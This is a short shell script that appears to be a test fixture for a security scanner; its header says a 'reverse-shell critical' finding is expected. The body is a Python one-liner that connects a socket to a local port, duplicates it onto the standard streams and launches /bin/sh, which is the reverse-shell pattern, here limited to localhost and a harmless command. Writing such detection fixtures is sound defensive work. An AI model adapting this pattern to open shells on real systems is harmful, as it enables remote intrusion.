#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# what: python: dup2 and a shell below
# expect: reverse-shell critical
# listen: 127.0.0.1:4452
# needs: /usr/bin/python3
/usr/bin/python3 -c 'import os, socket, subprocess
s = socket.create_connection(("127.0.0.1", 4452))
for n in 0, 1, 2: os.dup2(s.fileno(), n)
subprocess.call(["/bin/sh", "-c", "true"])'
